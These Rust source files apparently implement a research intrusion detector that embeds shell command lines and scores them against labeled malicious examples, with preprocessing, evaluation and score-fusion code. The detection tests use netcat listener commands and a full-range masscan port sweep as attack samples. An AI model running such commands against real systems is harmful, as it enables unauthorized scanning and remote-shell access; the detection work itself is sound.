        let err = engine.run(&train, &[false; 20], &test).unwrap_err();
        match err {
            EngineError::Detector { method, source } => {
                assert_eq!(method, "retrieval");
                assert_eq!(source, DetectorError::NoPositiveLabels);
            }
            other => panic!("unexpected error {other:?}"),
        }
    }

    #[test]
    fn fusion_errors_propagate() {
        let (train, labels, test) = toy_views();
        let run = ScoringEngine::new()
            .register(Box::new(PcaMethod::new(0.9)))
            .run(&train, &labels, &test)
            .unwrap();
        assert_eq!(
            run.fuse(&["nonexistent"], &[1.0]),
            Err(EngineError::UnknownMethod("nonexistent".into()))
        );
        assert_eq!(
            run.fuse(&["pca"], &[0.0]),
            Err(EngineError::Ensemble(
                crate::ensemble::EnsembleError::ZeroWeightSum
            ))
        );
    }
}
