//! Batch embedding helpers (parallel across threads).

use bpe::Tokenizer;
use linalg::Matrix;
use nn::Encoder;

/// Pooling strategy for a sequence embedding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Pooling {
    /// Average of all token embeddings — the paper's choice for PCA
    /// anomaly detection (Section III).
    Mean,
    /// The `[CLS]` position — the paper's probing target (Section IV-B).
    Cls,
}

/// Embeds `lines` into an `(n, hidden)` matrix, in parallel.
///
/// The encoder is cloned per worker thread; at experiment scale the
/// clone is megabytes, not gigabytes, and this keeps the forward pass
/// free of locking.
pub fn embed_lines(
    encoder: &Encoder,
    tokenizer: &Tokenizer,
    lines: &[&str],
    max_len: usize,
    pooling: Pooling,
) -> Matrix {
    let hidden = encoder.config().hidden;
    let n = lines.len();
    let mut out = Matrix::zeros(n, hidden);
    if n == 0 {
        return out;
    }
    let threads = std::thread::available_parallelism()
        .map(|p| p.get())
        .unwrap_or(4)
        .min(n);
    let chunk_rows = n.div_ceil(threads);

    let mut chunks: Vec<(usize, &mut [f32])> = Vec::new();
    {
        let mut rest = out.as_mut_slice();
        let mut start = 0usize;
        while !rest.is_empty() {
            let take = (chunk_rows * hidden).min(rest.len());
            let (head, tail) = rest.split_at_mut(take);
            chunks.push((start, head));
            start += take / hidden;
            rest = tail;
        }
    }

    crossbeam::scope(|scope| {
        for (row_start, chunk) in chunks {
            let encoder = encoder.clone();
            let tokenizer = tokenizer.clone();
            let lines = &lines[row_start..row_start + chunk.len() / hidden];
            scope.spawn(move |_| {
                for (i, line) in lines.iter().enumerate() {
                    let ids = tokenizer.encode_for_model(line, max_len);
                    let emb = match pooling {
                        Pooling::Mean => encoder.embed_mean(&ids),
                        Pooling::Cls => encoder.embed_cls(&ids),
                    };
                    chunk[i * hidden..(i + 1) * hidden].copy_from_slice(&emb);
                }
            });
        }
    })
    .expect("embedding worker panicked");
    out
}

/// Embeds pre-encoded id sequences (used when the caller already applied
/// multi-line windowing).
pub fn embed_ids(encoder: &Encoder, sequences: &[Vec<u32>], pooling: Pooling) -> Matrix {
    let hidden = encoder.config().hidden;
    let n = sequences.len();
    let mut out = Matrix::zeros(n, hidden);
    if n == 0 {
        return out;
    }
    let threads = std::thread::available_parallelism()
        .map(|p| p.get())
        .unwrap_or(4)
        .min(n);
    let chunk_rows = n.div_ceil(threads);

    let mut chunks: Vec<(usize, &mut [f32])> = Vec::new();
    {
        let mut rest = out.as_mut_slice();
        let mut start = 0usize;
        while !rest.is_empty() {
            let take = (chunk_rows * hidden).min(rest.len());
            let (head, tail) = rest.split_at_mut(take);
            chunks.push((start, head));
            start += take / hidden;
            rest = tail;
        }
    }

    crossbeam::scope(|scope| {
        for (row_start, chunk) in chunks {
            let encoder = encoder.clone();
            let seqs = &sequences[row_start..row_start + chunk.len() / hidden];
            scope.spawn(move |_| {
                for (i, ids) in seqs.iter().enumerate() {
                    let emb = match pooling {
                        Pooling::Mean => encoder.embed_mean(ids),
                        Pooling::Cls => encoder.embed_cls(ids),
                    };
                    chunk[i * hidden..(i + 1) * hidden].copy_from_slice(&emb);
                }
            });
        }
    })
    .expect("embedding worker panicked");
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use bpe::Trainer;
    use nn::ModelConfig;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn setup() -> (Encoder, Tokenizer) {
        let corpus = ["ls -la /tmp", "cat /etc/hosts", "docker ps -a"];
        let tok = Trainer::new(160).train(corpus.iter().copied());
        let mut rng = StdRng::seed_from_u64(1);
        let enc = Encoder::new(ModelConfig::tiny(tok.vocab_size()), &mut rng);
        (enc, tok)
    }

    #[test]
    fn parallel_embedding_matches_serial() {
        let (enc, tok) = setup();
        let lines: Vec<&str> = vec![
            "ls -la /tmp",
            "cat /etc/hosts",
            "docker ps -a",
            "ls /tmp",
            "cat /tmp/a",
            "docker ps",
            "ls",
        ];
        let batch = embed_lines(&enc, &tok, &lines, 32, Pooling::Mean);
        for (i, line) in lines.iter().enumerate() {
            let ids = tok.encode_for_model(line, 32);
            let single = enc.embed_mean(&ids);
            for (a, b) in batch.row(i).iter().zip(&single) {
                assert!((a - b).abs() < 1e-6, "row {i} mismatch");
            }
        }
    }

    #[test]
    fn cls_pooling_differs_from_mean() {
        let (enc, tok) = setup();
        let lines = vec!["ls -la /tmp"];
        let mean = embed_lines(&enc, &tok, &lines, 32, Pooling::Mean);
        let cls = embed_lines(&enc, &tok, &lines, 32, Pooling::Cls);
        assert_ne!(mean.row(0), cls.row(0));
    }

    #[test]
    fn empty_input_gives_empty_matrix() {
        let (enc, tok) = setup();
        let out = embed_lines(&enc, &tok, &[], 32, Pooling::Mean);
        assert_eq!(out.rows(), 0);
    }

    #[test]
    fn embed_ids_matches_embed_lines() {
        let (enc, tok) = setup();
        let lines = vec!["docker ps -a", "ls"];
        let seqs: Vec<Vec<u32>> = lines.iter().map(|l| tok.encode_for_model(l, 32)).collect();
        let a = embed_lines(&enc, &tok, &lines, 32, Pooling::Cls);
        let b = embed_ids(&enc, &seqs, Pooling::Cls);
        assert_eq!(a, b);
    }
}
