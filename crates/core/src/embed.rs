//! Batch embedding helpers.
//!
//! Embedding goes through [`nn::Encoder::forward_batch`]: sequences
//! are bucketed by exact length and each bucket's embedding lookup,
//! Q/K/V/O projections, feed-forward, and layer norms run as a few
//! large matrix operations (attention stays per-sequence on row
//! blocks, which is what keeps sequences from attending across each
//! other). The batched path is bit-identical to encoding each line on
//! its own — `parallel_embedding_matches_serial` below pins that down.

use bpe::Tokenizer;
use linalg::Matrix;
use nn::Encoder;

// The pooling enum lives beside the `Detector` trait so engines can ask
// each method which pooled space it needs; re-exported here because this
// module is where pooling is *applied*.
pub use anomaly::Pooling;

/// Embeds `lines` into an `(n, hidden)` matrix via one batched
/// encoder pass.
pub fn embed_lines(
    encoder: &Encoder,
    tokenizer: &Tokenizer,
    lines: &[&str],
    max_len: usize,
    pooling: Pooling,
) -> Matrix {
    let sequences: Vec<Vec<u32>> = lines
        .iter()
        .map(|line| tokenizer.encode_for_model(line, max_len))
        .collect();
    embed_ids(encoder, &sequences, pooling)
}

/// Embeds pre-encoded id sequences (used when the caller already applied
/// multi-line windowing).
pub fn embed_ids(encoder: &Encoder, sequences: &[Vec<u32>], pooling: Pooling) -> Matrix {
    match pooling {
        Pooling::Mean => encoder.embed_mean_batch(sequences),
        Pooling::Cls => encoder.embed_cls_batch(sequences),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bpe::Trainer;
    use nn::ModelConfig;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn setup() -> (Encoder, Tokenizer) {
        let corpus = ["ls -la /tmp", "cat /etc/hosts", "docker ps -a"];
        let tok = Trainer::new(160).train(corpus.iter().copied());
        let mut rng = StdRng::seed_from_u64(1);
        let enc = Encoder::new(ModelConfig::tiny(tok.vocab_size()), &mut rng);
        (enc, tok)
    }

    #[test]
    fn parallel_embedding_matches_serial() {
        let (enc, tok) = setup();
        let lines: Vec<&str> = vec![
            "ls -la /tmp",
            "cat /etc/hosts",
            "docker ps -a",
            "ls /tmp",
            "cat /tmp/a",
            "docker ps",
            "ls",
        ];
        let batch = embed_lines(&enc, &tok, &lines, 32, Pooling::Mean);
        for (i, line) in lines.iter().enumerate() {
            let ids = tok.encode_for_model(line, 32);
            let single = enc.embed_mean(&ids);
            for (a, b) in batch.row(i).iter().zip(&single) {
                assert!((a - b).abs() < 1e-6, "row {i} mismatch");
            }
        }
    }

    #[test]
    fn batched_embedding_is_bit_identical_to_serial() {
        let (enc, tok) = setup();
        let lines: Vec<&str> = vec!["ls -la /tmp", "cat /etc/hosts", "ls", "docker ps -a"];
        for pooling in [Pooling::Mean, Pooling::Cls] {
            let batch = embed_lines(&enc, &tok, &lines, 32, pooling);
            for (i, line) in lines.iter().enumerate() {
                let ids = tok.encode_for_model(line, 32);
                let single = match pooling {
                    Pooling::Mean => enc.embed_mean(&ids),
                    Pooling::Cls => enc.embed_cls(&ids),
                };
                assert_eq!(batch.row(i), single, "row {i} under {pooling:?}");
            }
        }
    }

    #[test]
    fn cls_pooling_differs_from_mean() {
        let (enc, tok) = setup();
        let lines = vec!["ls -la /tmp"];
        let mean = embed_lines(&enc, &tok, &lines, 32, Pooling::Mean);
        let cls = embed_lines(&enc, &tok, &lines, 32, Pooling::Cls);
        assert_ne!(mean.row(0), cls.row(0));
    }

    #[test]
    fn empty_input_gives_empty_matrix() {
        let (enc, tok) = setup();
        let out = embed_lines(&enc, &tok, &[], 32, Pooling::Mean);
        assert_eq!(out.rows(), 0);
    }

    #[test]
    fn embed_ids_matches_embed_lines() {
        let (enc, tok) = setup();
        let lines = vec!["docker ps -a", "ls"];
        let seqs: Vec<Vec<u32>> = lines.iter().map(|l| tok.encode_for_model(l, 32)).collect();
        let a = embed_lines(&enc, &tok, &lines, 32, Pooling::Cls);
        let b = embed_ids(&enc, &seqs, Pooling::Cls);
        assert_eq!(a, b);
    }
}
