//! The paper's Figure 2 pre-processing: Bash parser + command filter.
//!
//! Two stages remove data that "cannot be successfully executed by the
//! system, and therefore can hardly be harmful":
//!
//! 1. **Parser stage** — `shell_parser::classify` drops syntactically
//!    invalid lines (the `/*/*/* -> /*/*/* ->` class).
//! 2. **Command-filter stage** — a list of *concerned commands* built
//!    from occurrence counts; command names "that show extremely low
//!    frequency and thus are less likely to be valid" (typos like
//!    `dcoker`, `chdmod`) are filtered out.

use std::collections::HashMap;

/// Outcome counts of a preprocessing run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct PreprocessStats {
    /// Lines kept for training/inference.
    pub kept: usize,
    /// Lines dropped by the parser (invalid syntax).
    pub invalid: usize,
    /// Empty/comment-only lines dropped.
    pub empty: usize,
    /// Lines dropped by the command-frequency filter (typos).
    pub filtered: usize,
}

impl PreprocessStats {
    /// Total lines examined.
    pub fn total(&self) -> usize {
        self.kept + self.invalid + self.empty + self.filtered
    }
}

/// The two-stage preprocessor.
///
/// `fit` builds the command-occurrence table (Figure 2's right side);
/// `process` applies both stages.
///
/// ```
/// use cmdline_ids::Preprocessor;
///
/// let corpus = vec!["ls -la".to_string(); 100];
/// let mut pre = Preprocessor::new(3);
/// pre.fit(corpus.iter().map(|s| s.as_str()));
/// assert!(pre.is_concerned("ls"));
/// assert!(!pre.is_concerned("lss"));
/// ```
#[derive(Debug, Clone)]
pub struct Preprocessor {
    min_count: usize,
    occurrences: HashMap<String, usize>,
}

impl Preprocessor {
    /// Creates a preprocessor whose command filter requires a base name
    /// to occur at least `min_count` times in the fitted corpus.
    pub fn new(min_count: usize) -> Self {
        Preprocessor {
            min_count: min_count.max(1),
            occurrences: HashMap::new(),
        }
    }

    /// Counts command-name occurrences over a corpus (parser failures
    /// contribute nothing). Can be called repeatedly to accumulate.
    pub fn fit<'a>(&mut self, lines: impl IntoIterator<Item = &'a str>) {
        for line in lines {
            if let shell_parser::LineClass::Valid(script) = shell_parser::classify(line) {
                for name in script.base_names() {
                    *self.occurrences.entry(name.to_string()).or_insert(0) += 1;
                }
            }
        }
    }

    /// `true` if `name` passed the frequency filter.
    pub fn is_concerned(&self, name: &str) -> bool {
        self.occurrences.get(name).copied().unwrap_or(0) >= self.min_count
    }

    /// The command-occurrence table sorted by descending count — the
    /// paper's Figure 2 table (`cd ********`, `echo ********`, …).
    pub fn occurrence_table(&self) -> Vec<(String, usize)> {
        let mut table: Vec<(String, usize)> = self
            .occurrences
            .iter()
            .map(|(k, &v)| (k.clone(), v))
            .collect();
        table.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
        table
    }

    /// Applies both stages to one line: `Some(line)` if kept.
    ///
    /// A line is kept when it parses and **every** command base name is
    /// concerned (a single typo'd stage makes the whole line
    /// un-executable in practice).
    pub fn keep(&self, line: &str) -> bool {
        match shell_parser::classify(line) {
            shell_parser::LineClass::Valid(script) => script
                .base_names()
                .iter()
                .all(|name| self.is_concerned(name)),
            _ => false,
        }
    }

    /// Filters a corpus, returning kept lines and statistics.
    pub fn process<'a>(
        &self,
        lines: impl IntoIterator<Item = &'a str>,
    ) -> (Vec<&'a str>, PreprocessStats) {
        let mut kept = Vec::new();
        let mut stats = PreprocessStats::default();
        for line in lines {
            match shell_parser::classify(line) {
                shell_parser::LineClass::Valid(script) => {
                    if script
                        .base_names()
                        .iter()
                        .all(|name| self.is_concerned(name))
                    {
                        kept.push(line);
                        stats.kept += 1;
                    } else {
                        stats.filtered += 1;
                    }
                }
                shell_parser::LineClass::Empty => stats.empty += 1,
                shell_parser::LineClass::Invalid(_) => stats.invalid += 1,
            }
        }
        (kept, stats)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fitted() -> Preprocessor {
        let mut pre = Preprocessor::new(3);
        let corpus: Vec<&str> = vec![
            "ls -la",
            "ls /tmp",
            "ls /home",
            "ls",
            "docker ps",
            "docker ps -a",
            "docker logs c1",
            "docker restart c1",
            "cat a | grep x",
            "grep y f",
            "grep z g",
            "cat b",
            "cat c",
        ];
        pre.fit(corpus);
        pre
    }

    #[test]
    fn frequent_commands_are_concerned() {
        let pre = fitted();
        assert!(pre.is_concerned("ls"));
        assert!(pre.is_concerned("docker"));
        assert!(pre.is_concerned("grep"));
        assert!(!pre.is_concerned("dcoker"));
        assert!(!pre.is_concerned("never-seen"));
    }

    #[test]
    fn typo_lines_are_filtered() {
        let pre = fitted();
        assert!(pre.keep("ls -ltr"));
        assert!(!pre.keep("dcoker attach --sig-proxy=false c1"));
        assert!(!pre.keep("chdmod +x x.sh"));
    }

    #[test]
    fn invalid_lines_are_dropped_by_parser() {
        let pre = fitted();
        assert!(!pre.keep("/*/*/* -> /*/*/* ->"));
        assert!(!pre.keep("echo 'oops"));
    }

    #[test]
    fn pipeline_requires_all_names_concerned() {
        let pre = fitted();
        assert!(pre.keep("cat x | grep y"));
        // `grap` typo poisons the whole pipeline.
        assert!(!pre.keep("cat x | grap y"));
    }

    #[test]
    fn process_reports_stats() {
        let pre = fitted();
        let lines = [
            "ls -la",              // kept
            "dcoker ps",           // filtered (typo)
            "",                    // empty
            "# comment",           // empty
            "/*/*/* -> /*/*/* ->", // invalid
            "docker ps",           // kept
        ];
        let (kept, stats) = pre.process(lines.iter().copied());
        assert_eq!(kept, vec!["ls -la", "docker ps"]);
        assert_eq!(stats.kept, 2);
        assert_eq!(stats.filtered, 1);
        assert_eq!(stats.empty, 2);
        assert_eq!(stats.invalid, 1);
        assert_eq!(stats.total(), 6);
    }

    #[test]
    fn occurrence_table_is_sorted() {
        let pre = fitted();
        let table = pre.occurrence_table();
        // `docker` and `ls` tie at 4; the tie-break is lexicographic.
        assert_eq!(table[0], ("docker".to_string(), 4));
        assert_eq!(table[1], ("ls".to_string(), 4));
        for w in table.windows(2) {
            assert!(w[0].1 >= w[1].1);
        }
    }

    #[test]
    fn fit_accumulates() {
        let mut pre = Preprocessor::new(2);
        pre.fit(["vim a"]);
        assert!(!pre.is_concerned("vim"));
        pre.fit(["vim b"]);
        assert!(pre.is_concerned("vim"));
    }
}
