//! Retrieval-based detection over the pipeline (paper Section IV-D).
//!
//! No tuning: the pre-trained model's embedding space is used as-is. The
//! intrusion score of a test line is its average similarity to its `k`
//! nearest **malicious-labeled** training lines (the paper uses 1NN),
//! which sidesteps the label noise that breaks majority-vote kNN.

use crate::embed::{embed_lines, Pooling};
use crate::pipeline::IdsPipeline;
use anomaly::{IndexConfig, RetrievalDetector, VanillaKnn};

/// The paper's retrieval method bound to a pipeline's embedding space.
#[derive(Debug)]
pub struct Retrieval {
    detector: RetrievalDetector,
}

impl Retrieval {
    /// Indexes the malicious-labeled training lines (`labels[i] = true`
    /// means the supervision source alerted on `lines[i]`) over the
    /// exact backend.
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree or no line is labeled malicious.
    pub fn fit(pipeline: &IdsPipeline, lines: &[&str], labels: &[bool], k: usize) -> Self {
        Self::fit_with(pipeline, lines, labels, k, IndexConfig::Exact)
    }

    /// [`Retrieval::fit`] over an explicit vector-index backend.
    pub fn fit_with(
        pipeline: &IdsPipeline,
        lines: &[&str],
        labels: &[bool],
        k: usize,
        index: IndexConfig,
    ) -> Self {
        let embeddings = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            Pooling::Mean,
        );
        Retrieval {
            detector: RetrievalDetector::fit_with(&embeddings, labels, k, index, None),
        }
    }

    /// Number of indexed malicious exemplars.
    pub fn n_exemplars(&self) -> usize {
        self.detector.n_exemplars()
    }

    /// Scores test lines.
    pub fn score_lines(&self, pipeline: &IdsPipeline, lines: &[&str]) -> Vec<f32> {
        if lines.is_empty() {
            return Vec::new();
        }
        let embeddings = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            Pooling::Mean,
        );
        self.detector.score_all(&embeddings)
    }

    /// Scores one line.
    pub fn score(&self, pipeline: &IdsPipeline, line: &str) -> f32 {
        self.score_lines(pipeline, &[line])[0]
    }
}

/// Vanilla majority-vote kNN in the same embedding space — the ablation
/// the paper argues against under label noise.
#[derive(Debug)]
pub struct VanillaRetrieval {
    knn: VanillaKnn,
}

impl VanillaRetrieval {
    /// Indexes the full labeled training set over the exact backend.
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree or the set is empty.
    pub fn fit(pipeline: &IdsPipeline, lines: &[&str], labels: &[bool], k: usize) -> Self {
        Self::fit_with(pipeline, lines, labels, k, IndexConfig::Exact)
    }

    /// [`VanillaRetrieval::fit`] over an explicit vector-index backend.
    pub fn fit_with(
        pipeline: &IdsPipeline,
        lines: &[&str],
        labels: &[bool],
        k: usize,
        index: IndexConfig,
    ) -> Self {
        let embeddings = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            Pooling::Mean,
        );
        VanillaRetrieval {
            knn: VanillaKnn::fit_with(&embeddings, labels, k, index, None),
        }
    }

    /// Scores test lines.
    pub fn score_lines(&self, pipeline: &IdsPipeline, lines: &[&str]) -> Vec<f32> {
        if lines.is_empty() {
            return Vec::new();
        }
        let embeddings = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            lines,
            pipeline.max_len(),
            Pooling::Mean,
        );
        self.knn.score_all(&embeddings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{IdsPipeline, PipelineConfig};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn near_duplicate_attack_scores_high() {
        let mut rng = StdRng::seed_from_u64(31);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

        let lines = vec![
            "nc -lvnp 4444",
            "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
            "ls -la /tmp",
            "cd /var/log",
            "docker ps -a",
            "df -h",
        ];
        let labels = vec![true, true, false, false, false, false];
        let retrieval = Retrieval::fit(&pipeline, &lines, &labels, 1);
        assert_eq!(retrieval.n_exemplars(), 2);

        // The same attack with a different port embeds near its exemplar.
        let attack_score = retrieval.score(&pipeline, "nc -lvnp 9001");
        let benign_score = retrieval.score(&pipeline, "cat /etc/hosts");
        assert!(
            attack_score > benign_score,
            "attack {attack_score} vs benign {benign_score}"
        );
    }

    #[test]
    fn vanilla_knn_runs() {
        let mut rng = StdRng::seed_from_u64(32);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let lines = vec!["nc -lvnp 4444", "ls -la", "pwd"];
        let labels = vec![true, false, false];
        let vk = VanillaRetrieval::fit(&pipeline, &lines, &labels, 1);
        let scores = vk.score_lines(&pipeline, &["nc -lvnp 9001", "ls"]);
        assert_eq!(scores.len(), 2);
    }
}
