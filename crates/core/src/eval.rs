//! Method evaluation harness: turns scores into the paper's table rows.

use crate::metrics::{
    calibrate_threshold, f1_comparison, out_of_box_precision, overall_precision, precision_at_top,
    F1Comparison, ScoredSample,
};
use corpus::AttackFamily;
use serde::{Deserialize, Serialize};

/// One method's evaluation — a row of Tables I and II.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MethodEval {
    /// Calibrated threshold (None if no in-box samples existed).
    pub threshold: Option<f32>,
    /// PO at the threshold.
    pub po: Option<f64>,
    /// PO&I at the threshold.
    pub po_i: Option<f64>,
    /// `(v, PO@v)` pairs.
    pub po_at: Vec<(usize, f64)>,
    /// Section V-B comparison (when computable).
    pub f1: Option<F1Comparison>,
}

/// Evaluates one method's scores with in-box recall target `u` and
/// top-`v` cutoffs (the paper uses 100 and 1000).
///
/// # Panics
///
/// Panics if `u ∉ (0, 1]` or any `v == 0`.
pub fn evaluate_scores(samples: &[ScoredSample], u: f64, tops: &[usize]) -> MethodEval {
    let threshold = calibrate_threshold(samples, u);
    let (po, po_i, f1) = match threshold {
        Some(t) => (
            out_of_box_precision(samples, t),
            overall_precision(samples, t),
            f1_comparison(samples, t, u),
        ),
        None => (None, None, None),
    };
    let po_at = tops
        .iter()
        .filter_map(|&v| precision_at_top(samples, v).map(|p| (v, p)))
        .collect();
    MethodEval {
        threshold,
        po,
        po_i,
        po_at,
        f1,
    }
}

/// Mean ± standard deviation over repeated runs (the paper reports
/// "average performance over five runs … together with the standard
/// deviation").
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct MeanStd {
    /// Sample mean.
    pub mean: f64,
    /// Population standard deviation.
    pub std: f64,
}

impl MeanStd {
    /// Aggregates observations; `None` entries are skipped.
    pub fn from_runs(values: impl IntoIterator<Item = Option<f64>>) -> Option<MeanStd> {
        let xs: Vec<f64> = values.into_iter().flatten().collect();
        if xs.is_empty() {
            return None;
        }
        let mean = xs.iter().sum::<f64>() / xs.len() as f64;
        let var = xs.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / xs.len() as f64;
        Some(MeanStd {
            mean,
            std: var.sqrt(),
        })
    }
}

impl std::fmt::Display for MeanStd {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:.3} ± {:.3}", self.mean, self.std)
    }
}

/// Per-family true-positive breakdown at a threshold — the Section V-C
/// "preference of different methods" analysis.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FamilyBreakdown {
    /// `(family, detected, total)` rows.
    pub rows: Vec<(String, usize, usize)>,
}

/// Computes the per-family detection breakdown. `families[i]` is the
/// attack family of `samples[i]` (None for benign).
///
/// # Panics
///
/// Panics if lengths disagree.
pub fn family_breakdown(
    samples: &[ScoredSample],
    families: &[Option<AttackFamily>],
    threshold: f32,
) -> FamilyBreakdown {
    assert_eq!(samples.len(), families.len(), "one family tag per sample");
    let mut rows: Vec<(String, usize, usize)> = Vec::new();
    for family in AttackFamily::ALL {
        let mut total = 0;
        let mut detected = 0;
        for (s, f) in samples.iter().zip(families) {
            if *f == Some(family) && s.malicious {
                total += 1;
                if s.score >= threshold {
                    detected += 1;
                }
            }
        }
        if total > 0 {
            rows.push((family.to_string(), detected, total));
        }
    }
    FamilyBreakdown { rows }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(score: f32, malicious: bool, in_box: bool) -> ScoredSample {
        ScoredSample {
            score,
            malicious,
            in_box,
        }
    }

    #[test]
    fn evaluate_produces_full_row() {
        let samples = vec![
            sample(0.9, true, true),
            sample(0.8, true, false),
            sample(0.2, false, false),
        ];
        let eval = evaluate_scores(&samples, 1.0, &[1, 2]);
        assert_eq!(eval.threshold, Some(0.9));
        assert!(eval.po.is_none()); // nothing out-of-box above 0.9
        assert_eq!(eval.po_i, Some(1.0));
        assert_eq!(eval.po_at, vec![(1, 1.0), (2, 0.5)]);
    }

    #[test]
    fn mean_std_aggregation() {
        let ms = MeanStd::from_runs([Some(1.0), Some(3.0), None]).unwrap();
        assert_eq!(ms.mean, 2.0);
        assert_eq!(ms.std, 1.0);
        assert!(MeanStd::from_runs([None, None]).is_none());
        assert_eq!(format!("{ms}"), "2.000 ± 1.000");
    }

    #[test]
    fn family_breakdown_counts() {
        use corpus::AttackFamily::*;
        let samples = vec![
            sample(0.9, true, false),
            sample(0.1, true, false),
            sample(0.9, false, false),
        ];
        let families = vec![Some(PortScan), Some(PortScan), None];
        let bd = family_breakdown(&samples, &families, 0.5);
        assert_eq!(bd.rows, vec![("port-scan".to_string(), 1, 2)]);
    }

    #[test]
    fn empty_samples_evaluate_cleanly() {
        let eval = evaluate_scores(&[], 1.0, &[100]);
        assert!(eval.threshold.is_none());
        assert!(eval.po_at.is_empty());
    }
}
