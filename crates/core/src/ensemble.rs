//! Score fusion across detection methods — the paper's future-work item:
//! "these methods complement each other, and an ensemble of all these
//! methods can further boost the out-of-box intrusion detection
//! performance, which should be explored in future work."
//!
//! Raw scores are not commensurable (probabilities vs reconstruction
//! errors vs cosine similarities), so fusion happens on **ranks**: each
//! method ranks the test set, ranks are converted to `[0, 1]` quantile
//! scores, and the ensemble score is their mean (optionally weighted).

/// Why a fusion request is malformed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EnsembleError {
    /// No methods were supplied.
    NoMethods,
    /// A method's score vector length disagrees with the first method's.
    LengthMismatch {
        /// Length of the first method's scores.
        expected: usize,
        /// The offending method's index.
        method: usize,
        /// The offending method's length.
        got: usize,
    },
    /// The weight count does not match the method count.
    WeightCountMismatch {
        /// Number of methods.
        methods: usize,
        /// Number of weights.
        weights: usize,
    },
    /// Every weight is zero (or the sum is non-positive).
    ZeroWeightSum,
}

impl std::fmt::Display for EnsembleError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            EnsembleError::NoMethods => write!(f, "need at least one method to fuse"),
            EnsembleError::LengthMismatch {
                expected,
                method,
                got,
            } => write!(
                f,
                "all methods must score the same samples: method {method} scored {got}, expected {expected}"
            ),
            EnsembleError::WeightCountMismatch { methods, weights } => write!(
                f,
                "one weight per method required: {methods} methods, {weights} weights"
            ),
            EnsembleError::ZeroWeightSum => write!(f, "weights must not all be zero"),
        }
    }
}

impl std::error::Error for EnsembleError {}

/// Converts raw scores to quantile scores in `[0, 1]`:
/// the highest raw score maps to 1, the lowest to near 0. Ties share
/// the average of their quantiles, so deterministic scorers with many
/// identical outputs do not distort the fusion.
pub fn rank_normalize(scores: &[f32]) -> Vec<f32> {
    let n = scores.len();
    if n == 0 {
        return Vec::new();
    }
    if n == 1 {
        return vec![1.0];
    }
    let mut order: Vec<usize> = (0..n).collect();
    order.sort_by(|&a, &b| {
        scores[a]
            .partial_cmp(&scores[b])
            .unwrap_or(std::cmp::Ordering::Equal)
    });
    let mut out = vec![0.0f32; n];
    let mut i = 0;
    while i < n {
        // Group ties and give them the mean rank of their run.
        let mut j = i;
        while j + 1 < n && scores[order[j + 1]] == scores[order[i]] {
            j += 1;
        }
        let mean_rank = (i + j) as f32 / 2.0;
        let quantile = (mean_rank + 1.0) / n as f32;
        for &k in &order[i..=j] {
            out[k] = quantile;
        }
        i = j + 1;
    }
    out
}

/// Fuses several methods' scores for the same sample set by weighted
/// mean of rank-normalized scores, reporting malformed requests as a
/// typed [`EnsembleError`] instead of panicking.
pub fn try_fuse_weighted(methods: &[&[f32]], weights: &[f32]) -> Result<Vec<f32>, EnsembleError> {
    if methods.is_empty() {
        return Err(EnsembleError::NoMethods);
    }
    if methods.len() != weights.len() {
        return Err(EnsembleError::WeightCountMismatch {
            methods: methods.len(),
            weights: weights.len(),
        });
    }
    let n = methods[0].len();
    for (i, m) in methods.iter().enumerate() {
        if m.len() != n {
            return Err(EnsembleError::LengthMismatch {
                expected: n,
                method: i,
                got: m.len(),
            });
        }
    }
    let total: f32 = weights.iter().sum();
    if total.partial_cmp(&0.0) != Some(std::cmp::Ordering::Greater) {
        return Err(EnsembleError::ZeroWeightSum);
    }

    let mut fused = vec![0.0f32; n];
    for (m, &w) in methods.iter().zip(weights) {
        let normalized = rank_normalize(m);
        for (f, q) in fused.iter_mut().zip(&normalized) {
            *f += w * q;
        }
    }
    for f in &mut fused {
        *f /= total;
    }
    Ok(fused)
}

/// Unweighted variant of [`try_fuse_weighted`].
pub fn try_fuse(methods: &[&[f32]]) -> Result<Vec<f32>, EnsembleError> {
    try_fuse_weighted(methods, &vec![1.0; methods.len()])
}

/// Panicking convenience wrapper around [`try_fuse_weighted`].
///
/// # Panics
///
/// Panics if `methods` is empty, the score vectors have differing
/// lengths, weights don't match the method count, or all weights are 0.
pub fn fuse_weighted(methods: &[&[f32]], weights: &[f32]) -> Vec<f32> {
    match try_fuse_weighted(methods, weights) {
        Ok(fused) => fused,
        Err(e) => panic!("{e}"),
    }
}

/// Unweighted rank-mean fusion.
///
/// ```
/// use cmdline_ids::ensemble::fuse;
/// let a = [0.9f32, 0.1, 0.5];
/// let b = [10.0f32, 2.0, 30.0];
/// let fused = fuse(&[&a, &b]);
/// // Sample 0 is ranked high by both; sample 1 low by both.
